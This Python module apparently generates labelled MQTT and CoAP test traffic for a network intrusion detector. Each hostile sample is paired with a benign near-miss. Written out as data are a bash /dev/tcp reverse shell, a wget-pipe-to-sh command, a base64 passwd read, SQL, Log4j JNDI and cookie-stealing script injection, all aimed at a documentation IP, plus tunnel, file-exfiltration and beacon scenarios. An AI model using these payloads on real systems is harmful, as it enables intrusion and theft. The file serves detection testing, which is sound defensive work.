"""Commands, tunnels, files and beacons in messages, each with honest content that comes near it."""

import base64
import gzip
import json
import random
import time

from .device import Device
from .lab import OUTSIDE_CLIENT, OUTSIDE_SERVER
from .mqtt_violations import OPEN
from .payload_tools import OTHER, SENDER, kind, publish, reader
from .samples import sample

kind("shell-output", "A shell answers who it runs as (mosquitto_pub)",
     [("node/4/out", "uid=0(root) gid=0(root) groups=0(root)")], {"payload_shell_output": 1})
kind("shell-output-near", "A log that tells of users and processes in words (mosquitto_pub)",
     [("node/4/log", "the service was started by user 0 (root) in group 0; pid 411, uptime 2 days")], {})
kind("reverse-shell", "A command that opens a shell towards another host (mosquitto_pub)",
     [("node/4/in", "bash -i >& /dev/tcp/203.0.113.66/4443 0>&1")], {"payload_reverse_shell": 1, "payload_shell_words": 1}, rows={"payload_reverse_shell": 1})
kind("reverse-shell-near", "A log about a device file and a shell that somebody opened at the console (mosquitto_pub)",
     [("node/4/log", "opened /dev/tty1 for an interactive shell; /dev/tcp is no file")], {})
kind("base64-shell", "A shell command in base64 (mosquitto_pub)",
     [("node/4/in", base64.b64encode(b"cat /etc/passwd; uname -a"))], {"payload_base64_shell": 1})
kind("base64-shell-near", "A sentence in base64 (mosquitto_pub)",
     [("node/4/note", base64.b64encode(b"all is well at the pump today"))], {})
kind("sql-injection", "A name that is to break out of a query (mosquitto_pub)",
     [("shop/search", json.dumps({"name": "x' OR '1'='1' --"}))], {"payload_sql_injection": 1})
kind("sql-injection-near", "A name with an apostrophe, and a choice between two (mosquitto_pub)",
     [("shop/search", json.dumps({"name": "O'Brien or O'Neill", "select": "union of both"}))], {})
kind("template-injection", "Expressions for Jinja and Log4j, over MQTT and CoAP (mosquitto_pub, coap-client)",
     [("shop/name", "{{7*7}}"), ("shop/agent", "${jndi:ldap://203.0.113.66/a}")], {"payload_template_injection": 2},
     over_coap=("/data/agent", "${jndi:ldap://203.0.113.66/a}"))
kind("template-injection-near", "A template as hubs have them, which reads a value and nothing more (mosquitto_pub)",
     [("homeassistant/sensor/hall/config", json.dumps({"value_template": "{{ value_json.temperature | round(1) }}", "name": "Hall"}))], {})
kind("script-injection", "A script that is to run in a dashboard (mosquitto_pub)",
     [("shop/comment", "<img src=x onerror=fetch('//203.0.113.66/'+document.cookie)>")], {"payload_script_injection": 1})
kind("script-injection-near", "A drawing, and a sentence with signs that scripts have too (mosquitto_pub)",
     [("shop/sign", "<p>pressure < 5 bar & > 2 bar</p>"), ("shop/note", "the script is in the folder on the left")], {})
kind("fetch-and-run", "A command that fetches a program and runs it, over MQTT and CoAP (mosquitto_pub, coap-client)",
     [("node/4/in", "wget http://203.0.113.66/x -O- | sh")], {"payload_fetch_and_run": 2, "payload_shell_words": 2}, rows={"payload_fetch_and_run": 2},
     over_coap=("/data/in", "/bin/sh -c reboot"))
kind("fetch-and-run-near", "A log that says what was fetched, and a list in which sh comes after a bar (mosquitto_pub)",
     [("node/4/log", "fetched the list; then ended"), ("node/4/shells", "ash | bash | sh")], {})
kind("shell-words", "A command that only fetches something, over MQTT and CoAP (mosquitto_pub, coap-client)",
     [("node/4/in", "wget http://203.0.113.66/x")], {"payload_shell_words": 2}, over_coap=("/data/in", "chmod +x /var/x"))
kind("shell-words-near", "A shell of another kind (mosquitto_pub)", [("boat/4/log", "the shell of the boat was painted")], {})
kind("tunnel", "SSH and TLS begin in messages, and a request for a page (mosquitto_pub)",
     [("node/4/up", "GET /index.html HTTP/1.1\r\nHost: 10.77.0.9\r\n\r\n"), ("node/4/up", "SSH-2.0-OpenSSH_9.9\r\n"),
      ("node/4/up", bytes.fromhex("1603010040010000") + bytes(60))], {"payload_tunnel": 1})
kind("tunnel-near", "A log that tells of SSH and of a page (mosquitto_pub)",
     [("node/4/log", "SSH-2.0 is on"), ("node/4/log", "a GET of /index.html took 12 ms")], {})

# Files

PICTURE = bytes.fromhex("89504e470d0a1a0a0000000d49484452000002800000016808060000005a5a5a5a")
PACKED = gzip.compress(json.dumps({"users": ["a", "b"] * 40}).encode(), mtime=0)

kind("file-as-reading", "A packed file in place of a temperature (mosquitto_pub)",
     [("cellar/3/temperature", PACKED)], {"payload_file_as_reading": 1})
kind("file-as-reading-near", "A temperature, and a packed file where one belongs (mosquitto_pub)",
     [("cellar/3/temperature", "71.5"), ("cellar/3/backup", PACKED)], {})


def pictures(lab, name, address, number):
    """A camera publishes pictures of 240,000 octets, which somebody is sent."""
    lab.largest_frame(9000)
    try:
        with lab.broker(OPEN), lab.capture(name), reader(lab, "camera/4/picture", address, "viewer"):
            for _ in range(number):
                publish(lab, "camera/4/picture", PICTURE + bytes(240_000 - len(PICTURE)))
                time.sleep(0.2)
    finally:
        lab.largest_frame(1500)


@sample("payload/files-outside.pcap.zst", {"payload_files_outside": 1, "mqtt_client_from_outside": 1})
def files_outside(lab, name):
    """Five pictures, 1.2 megabytes together, go to a client outside (mosquitto_pub, mosquitto_sub)."""
    pictures(lab, name, OUTSIDE_CLIENT, 5)


@sample("payload/files-outside-near.pcap.zst", {})
def files_inside(lab, name):
    """The same pictures go to a client inside (mosquitto_pub, mosquitto_sub)."""
    pictures(lab, name, OTHER, 5)


# Beacons


def exchange(lab, name, payloads):
    """A host inside and one outside talk through a broker outside, under topics that are theirs alone."""
    place = "c/3f8a4c1e-9b27-4d60-8e15-7a2c9d0b6e41"
    with lab.broker("allow_anonymous true"), lab.capture(name):
        with Device("inside", SENDER, username="inside", server=OUTSIDE_SERVER) as inside:
            inside.subscribe(place + "/in")
            with Device("outside", OUTSIDE_CLIENT, username="outside", server=OUTSIDE_SERVER) as outside:
                for payload in payloads:
                    inside.publish(place + "/out", payload)
                    outside.publish(place + "/in", payload)
            inside.wait_for_messages(len(payloads))


@sample("payload/beacon.pcap", {"payload_beacon": 1, "mqtt_broker_outside": 1})
def beacon(lab, name):
    """Random bytes both ways through a broker outside, under a topic of their own (paho)."""
    exchange(lab, name, [random.Random(n).randbytes(600) for n in range(3)])


@sample("payload/beacon-near.pcap", {"mqtt_broker_outside": 1})
def settings_both_ways(lab, name):
    """Settings in JSON both ways through a broker outside, under such a topic (paho)."""
    exchange(lab, name, [json.dumps({"interval": 60, "mode": "auto", "turn": n}) for n in range(3)])
